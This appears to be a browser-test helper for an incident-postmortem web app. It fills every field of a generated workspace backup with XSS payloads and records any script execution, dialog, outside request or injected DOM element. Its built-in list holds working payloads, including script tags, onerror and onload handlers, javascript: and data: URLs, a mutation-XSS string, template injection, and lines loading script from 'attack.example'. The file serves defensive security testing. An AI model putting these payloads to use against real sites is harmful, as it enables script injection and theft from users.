// Published attacks, put wherever a workspace holds words of people; and what notices that one of them did anything.
//
//   attacks()           every payload of the corpus beside the checkout, or a few of our own, with a notice, where it is not
//   workspace(all, n)   a backup that holds them: lists with `n` members, whose fields begin at different payloads, so that all are in it
//   guard(context)      notes scripts that run, dialogs, requests to elsewhere and pages that were opened or left
//   strange(page)       elements, attributes and addresses on the page as it is that no page of ours makes
import { existsSync, readFileSync, readdirSync } from "node:fs";
import { deflateSync } from "node:zlib";

const CORPUS = new URL("../../../../shared/corpus/xss/", import.meta.url);
const HERE = existsSync(CORPUS);

const OWN = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><svg onload=alert(1)>",
  "'-alert(1)-'",
  "</textarea></title></style><script src=//attack.example/x.js></script>",
  "[a](javascript:alert(1))",
  "![a](https://attack.example/x.png\"onerror=\"alert(1))",
  "<a href=\"java\tscript:alert(1)\">a</a>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<style>@import'https://attack.example/x.css';</style>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "__proto__",
  "{{constructor.constructor('alert(1)')()}}",
];

const strings = (it) => {
  if (typeof it === "string") return [it];
  if (Array.isArray(it)) return it.flatMap(strings);
  return Object.entries(it ?? {}).flatMap(([name, value]) => (["payload", "markdown"].includes(name) ? strings(value) : []));
};

/** Every payload, each once. */
export const attacks = () => {
  if (!HERE) {
    console.log(`skipped: no published attacks at ${CORPUS.pathname}, only ${OWN.length} of our own`);
    return OWN;
  }
  const files = readdirSync(CORPUS).filter((name) => /\.(txt|json)$/.test(name)).sort();
  const found = files.flatMap((name) => {
    const text = readFileSync(new URL(name, CORPUS), "utf8");
    return name.endsWith(".json") ? strings(JSON.parse(text)) : text.split(/\r?\n/);
  });
  return [...new Set([...OWN, ...found])].filter((it) => it.trim());
};

const id = (n) => String(n).padStart(12, "0");
const idOf = (n) => `0199a02f-ef00-7000-8000-${String(n).padStart(12, "0")}`;
const at = (minutes) => new Date(Date.parse("2026-03-10T03:00:00Z") + minutes * 60_000).toISOString();
const day = (n) => at(n * 1440).slice(0, 10);

/** Each field goes through the payloads from another one on, and goes on from there in the next round. */
const dealer = (payloads, n, round = 0) => {
  const offsets = new Map();
  const from = (field) => {
    if (!offsets.has(field)) offsets.set(field, (offsets.size + round) * n);
    return offsets.get(field);
  };
  const one = (field, at) => payloads[(from(field) + at) % payloads.length];
  const few = (field, at, n) => Array.from({ length: n }, (_, more) => one(field, at * n + more));
  /** A field of which a document has one holds many. */
  const text = (field) => Array.from({ length: n }, (_, at) => one(field, at)).join("\n\n");
  const line = (field) => one(field, 0);
  return { one, few, text, line };
};

const many = (n, make) => Array.from({ length: n }, (_, at) => make(at));

/** A postmortem with `n` of everything that there may be many of. */
const wide = (payloads, n, round) => {
  const { one, few, text, line } = dealer(payloads, n, round);
  return {
    schema: "postmortem/1", id: idOf(100 + round), createdAt: at(0), zone: "Europe/Berlin", template: "hostile",
    title: few("title", 0, Math.min(n, 60)).join(" "),
    incident: line("incident"), severity: "SEV2",
    services: few("service", 0, 20), teams: few("team", 0, 20), tags: few("tag", 0, 20), authors: few("author", 0, 20), reviewers: few("reviewer", 0, 20),
    transitions: [{ to: "in-review", at: at(1), who: line("who"), note: text("note") }, { to: "draft", at: at(2), who: line("by"), note: text("why") }],
    roles: {
      commander: line("commander"), technicalLead: line("lead"), communicationsLead: line("voice"), scribe: line("scribe"),
      others: many(20, (it) => ({ role: one("role", it), person: one("person", it) })),
    },
    moments: { "impact-started": { at: at(0) }, detected: { at: at(5) }, resolved: { at: at(90) } },
    detection: "synthetic-check",
    summary: text("summary"), trigger: text("trigger"), whatHappened: text("happened"), surprise: text("surprise"), wentWell: text("well"),
    wentWrong: text("wrong"), lucky: text("lucky"), lessons: text("lessons"),
    impact: { text: text("impact"), users: 12, regions: few("region", 0, 20), revenue: { hundredths: 12345, currency: "EUR" } },
    factors: many(n, (it) => ({
      id: id(100_000 + it), text: one("factor", it), kind: "trigger", category: "capacity", evidence: one("factor evidence", it),
      accepted: { reason: one("reason", it), who: one("accepted by", it), at: at(3) },
    })),
    response: {
      efforts: many(9, (it) => ({ role: one("effort", it), people: 2, minutes: 60 })), hourlyRate: { hundredths: 8000, currency: "EUR" },
      feedback: many(9, (it) => ({ score: 4, text: one("feedback", it) })),
    },
    timeline: many(n, (it) => ({
      id: id(200_000 + it), time: { exact: at(it) }, kind: "action", stamp: one("stamp", it), text: one("entry", it), source: one("source", it),
      links: [one("link", it), `https://example.org/${one("address", it)}`, `javascript:alert(${it})`],
    })),
    trees: [{
      id: id(1), problem: line("problem"), join: "all",
      causes: many(n, (it) => ({
        ...(it % 4 && { under: id(300_000 + it - (it % 4)) }),
        cause: {
          id: id(300_000 + it), text: one("cause", it), question: one("question", it), kind: "contributing", confidence: "confirmed", join: "all", root: it === 0,
          evidence: [{ link: one("evidence", it) }, { link: `javascript:alert(${it})` }, { note: one("evidence note", it) }],
        },
      })),
    }],
    actions: many(n, (it) => action(one, it)),
    extra: many(Math.min(n, 60), (it) => ({ id: id(500_000 + it), heading: one("heading", it), text: few("extra", it, 5).join("\n\n") })),
  };
};

const action = (one, it) => ({
  id: id(400_000 + it), title: one("action", it), owner: one("owner", it), due: day(it % 60), created: day(0), priority: "P1", kind: "prevent", strength: "design",
  ...(it % 3 ? {} : { state: { is: "blocked", reason: one("blocked", it) } }), detail: one("detail", it), verification: one("verification", it),
  tracker: it % 2 ? one("tracker", it) : `javascript:alert(${it})`, source: one("action source", it),
  history: [{ to: "blocked", at: at(4), who: one("changed by", it) }],
});

/** A small postmortem for each payload: what lists, searches and charts show. */
const small = (payloads, it) => {
  const one = (more) => payloads[(it + more * 7) % payloads.length];
  return {
    schema: "postmortem/1", id: idOf(1_000 + it), createdAt: at(it * 60), zone: "UTC", title: one(0), severity: it % 2 ? "SEV1" : one(1),
    services: [one(2)], teams: [one(3)], tags: [one(4)], authors: [one(5)], summary: one(6), template: "standard",
    moments: { "impact-started": { at: at(it * 60) }, detected: { at: at(it * 60 + 5) }, resolved: { at: at(it * 60 + 50) } },
    factors: [{ id: id(1), text: one(7), kind: "trigger", category: "capacity" }],
    actions: [{ id: id(2), title: one(8), owner: one(9), tracker: one(10), due: day(it % 90), created: day(0) }],
  };
};

const list = (payloads, n, round) => {
  const { one, line } = dealer(payloads, n, round);
  return { schema: "action-list/1", id: idOf(200 + round), createdAt: at(0), title: line("title"), zone: "UTC", actions: many(n, (it) => action(one, it)) };
};

const register = (payloads, n, round) => {
  const { one, text, line } = dealer(payloads, n, round);
  return {
    schema: "toil-register/1", id: idOf(300 + round), createdAt: at(0), title: line("title"), zone: "Europe/Berlin",
    activities: many(n, (it) => ({
      id: id(600_000 + it), name: one("name", it), team: one("team", it), services: [one("service", it)], category: "certificates", criteria: ["manual", "repetitive"],
      rhythm: { count: 1 + (it % 5), per: "month" }, seconds: 7200, people: 2, level: "documented", note: one("note", it),
    })),
    weeks: many(20, (it) => ({ id: id(610_000 + it), monday: at(-10_080 * it - 1440).slice(0, 10), team: one("week's team", it), source: "log", toil: { deployments: 600 }, toilMinutes: 900, allMinutes: 2880, note: one("week", it) })),
    projects: many(20, (it) => ({
      id: id(620_000 + it), name: one("project", it), owner: one("project owner", it), parts: [{ activity: id(600_000 + it), share: { likely: 900_000 } }],
      buildMinutes: { likely: 4800 }, stage: "planned", history: [{ to: "planned", on: day(1), who: one("planned by", it) }], note: text("project note"),
    })),
  };
};

/** A model whose every word is a payload. */
const model = (payloads, n, round) => {
  const { one, few, line } = dealer(payloads, n, round);
  return {
    id: "hostile", version: "1", name: line("model"), about: line("about"), licence: line("licence"), source: few("source", 0, 9), language: "en",
    levels: many(4, (it) => ({ name: one("level", it), characteristics: few("characteristic", it, 4), pains: few("pain", it, 4), investment: one("investment", it) })),
    dimensions: many(4, (it) => ({
      id: `d${it}`, name: one("dimension", it), about: one("dimension about", it),
      capabilities: many(Math.ceil(n / 12), (more) => {
        const k = it * 1_000 + more;
        return {
          id: `c${it}-${more}`, name: one("capability", k), question: one("capability question", k), weight: 1, statements: few("statement", k, 4),
          evidence: few("model evidence", k, 2), references: [one("reference", k), `javascript:alert(${k})`, `https://example.org/${one("path", k)}`],
        };
      }),
    })),
  };
};

const assessment = (payloads, n, round) => {
  const { one, few, line } = dealer(payloads, n, round);
  const of = model(payloads, n, round);
  const capabilities = of.dimensions.flatMap((it) => it.capabilities.map((it) => it.id));
  const each = (make) => Object.fromEntries(capabilities.map((name, it) => [name, make(it)]));
  return {
    schema: "assessment/1", id: idOf(400 + round), createdAt: at(0), title: line("title"), zone: "UTC", model: of,
    about: { team: line("team"), date: day(0), facilitator: line("facilitator"), participants: few("participant", 0, 20) },
    answers: each((it) => ({
      score: it % 7, confidence: "high", note: one("note", it), agreed: one("agreed", it),
      evidence: [{ id: id(it + 1), text: one("evidence", it), link: it % 2 ? one("link", it) : `javascript:alert(${it})`, dated: day(-90) }],
    })),
    targets: { all: 6 },
    exceptions: Object.fromEntries(capabilities.slice(0, 9).map((name, it) => [name, { reason: one("reason", it), owner: one("owner", it), until: day(5) }])),
    reopened: capabilities.slice(0, 9).map((capability, it) => ({ capability, postmortem: idOf(100), title: one("incident", it), on: day(2), why: one("why", it) })),
    workshop: { id: id(1), revealed: capabilities.slice(0, 5), isNamed: true, ballots: many(5, (it) => ({ id: id(30 + it), voter: one("voter", it), votes: { [capabilities[0]]: { score: it } } })) },
  };
};

const settings = (payloads, n) => {
  const { one, few, line } = dealer(payloads, n);
  return {
    "own-name": line("own name"),
    "template:hostile": {
      id: "hostile", name: one("template", 2), purpose: one("purpose", 1),
      sections: ["summary", "impact", "timeline", "causes", "factors", "went-well", "actions", "lessons"].map((section, it) => ({ section, heading: one("heading", it) || section, guidance: few("guidance", it, 9).join(" ") })),
    },
    "severity-scheme": {
      name: line("scheme"), source: line("scheme source"),
      levels: ["SEV1", "SEV2", "SEV3"].map((key, it) => ({ key, name: one("level", it), meaning: one("meaning", it), resolve: "asap", escalate: one("escalate", it) })),
    },
    "own-metrics": [{ id: "hostile-metric", label: one("metric", 0), from: ["detected"], to: ["resolved"], source: one("metric source", 0) }],
    "model:hostile": model(payloads, n),
  };
};

/** All of it as a backup; in so many rounds, each of one document of each kind. After as many as lists of `n` need for all, each was in each field. */
export const workspace = (payloads, n, rounds = 1) => ({
  schema: "afterword-workspace/1",
  exportedAt: at(0),
  documents: [...many(rounds, (round) => [wide, list, register, assessment].map((make) => make(payloads, n, round))).flat(), ...payloads.map((_, it) => small(payloads, it))],
  settings: settings(payloads, n),
});

/** A document as links hold it. */
export const packed = (document) => `1${deflateSync(JSON.stringify(document)).toString("base64url")}`;

/** Notes whatever an attack would do. What is noted is in the list that comes back; `origins` are those that may be asked. */
export const guard = async (context, origins) => {
  const noted = [];
  await context.exposeBinding("attacked", (_, what) => {
    noted.push(what);
  });
  // In every frame, before its own scripts. Most attacks say alert; others write, open or send.
  await context.addInitScript(() => {
    const note = (what) => (...given) => {
      window.attacked(`${what}(${given.map(String).join().slice(0, 80)}) in ${location.href.slice(0, 200)}`);
      return null;
    };
    for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = note(name);
    for (const name of ["write", "writeln"]) Document.prototype[name] = note(`document.${name}`);
    for (const name of ["XSS", "xss", "pwned"]) window[name] = note(name);
    // A timer that is given a text makes a script of it.
    for (const name of ["setTimeout", "setInterval"]) {
      const real = window[name];
      window[name] = (run, ...rest) => (typeof run === "string" ? note(name)(run) : real.call(window, run, ...rest));
    }
  });
  context.on("request", (it) => {
    const url = it.url();
    if (!/^(data|blob|about):/.test(url) && !origins().some((origin) => url.startsWith(origin))) noted.push(`request to ${url.slice(0, 200)}`);
  });
  const attend = (page) => {
    page.on("dialog", async (it) => {
      noted.push(`a dialog: ${it.message().slice(0, 80)}`);
      await it.dismiss().catch(() => {});
    });
    page.on("pageerror", (it) => noted.push(`an error: ${it.stack ?? it}`.slice(0, 400)));
    page.on("popup", (it) => noted.push(`a window: ${it.url().slice(0, 200)}`));
    page.on("crash", () => noted.push("the page crashed"));
  };
  context.pages().forEach(attend);
  context.on("page", attend);
  return noted;
};

/** What our pages are made of. An attack that becomes an element is nearly always something else. */
const ELEMENTS =
  "a abbr article aside b base blockquote body br button canvas caption circle code col colgroup datalist dd defs del desc details dialog div dl dt ellipse em fieldset figcaption figure footer form g h1 h2 h3 h4 h5 h6 head header hr html i iframe img input ins kbd label legend li line link main mark menu meta meter nav noscript ol optgroup option output p path pattern polygon polyline pre progress rect samp search section select slot small span strong style sub summary sup svg symbol table tbody td template text textarea tfoot th thead time title tr tspan ul use var wbr";

/** What is on the page, in shadow roots too, that none of ours makes; each as a line. And how many elements were looked at. */
export const strange = (page, { scripts = [], frames = [] } = {}) =>
  page.evaluate(
    ({ known, scripts, frames }) => {
      const names = new Set(known);
      const within = (root) => [...root.querySelectorAll("*")].flatMap((it) => (it.shadowRoot ? [it, ...within(it.shadowRoot)] : [it]));
      const all = within(document);
      const found = [];
      const isFine = (address) => {
        // As a browser reads it: blanks and line breaks out, and the scheme in any case.
        const scheme = address.replace(/[\u0000-\u0020]/g, "").match(/^([a-z][a-z0-9+.-]*):/i)?.[1].toLowerCase();
        return !scheme || ["http", "https", "mailto"].includes(scheme);
      };
      for (const it of all) {
        const say = (what) => found.push(`${what}: ${it.cloneNode(false).outerHTML.slice(0, 240)}`);
        const name = it.localName;
        if (name === "script") {
          if (!scripts.some((part) => it.src.includes(part)) || it.textContent.trim()) say("a script");
        } else if (name === "iframe") {
          if (it.srcdoc || !frames.some((part) => it.src.includes(part))) say("a frame");
        } else if (!names.has(name) && !/^afterword-[a-z-]+$/.test(name)) say("an element");
        // Frames of ours say with one where links open; where it says what addresses are relative to, it is not ours.
        if (name === "base" && it.hasAttribute("href")) say("a base");
        if (name === "form" && it.hasAttribute("action")) say("a form that sends");
        for (const attribute of it.getAttributeNames()) {
          const value = it.getAttribute(attribute);
          if (/^on/i.test(attribute)) say(`the attribute ${attribute}`);
          if (attribute === "style" && /url\s*\(|expression|javascript|@import|behavior|binding/i.test(value)) say("a style");
          if (/^(href|xlink:href|action|formaction|data|poster|background|cite|longdesc|ping|manifest|from|to|values)$/.test(attribute)) {
            const isOurs = name === "link" || (name === "use" && value.startsWith("#")) || name.startsWith("afterword-") || (name === "a" && it.download && value.startsWith("blob:"));
            if (!isOurs && !isFine(value)) say(`an address in ${attribute}`);
          }
          if (/^(srcdoc|http-equiv|is|nonce)$/.test(attribute) && name !== "meta") say(`the attribute ${attribute}`);
          if (name === "img" && attribute === "src" && !/^(blob:|data:image\/|static\/|\.\/static\/)/.test(value)) say("an image");
          // A name that HTML could not have been given in a script, such as a quote, came out of a text.
          if (!/^[a-z][a-zA-Z0-9:_-]*$/.test(attribute)) say(`the attribute ${attribute}`);
        }
        if (name === "a" && /^https?:$/.test(it.protocol) && it.origin !== location.origin && !/noopener/.test(it.rel)) say("a link that tells where it was followed");
      }
      for (const name of Object.keys(Object.prototype)) found.push(`every object has “${name}”`);
      return { found: found.slice(0, 20), n: all.length };
    },
    { known: ELEMENTS.split(" "), scripts, frames },
  );
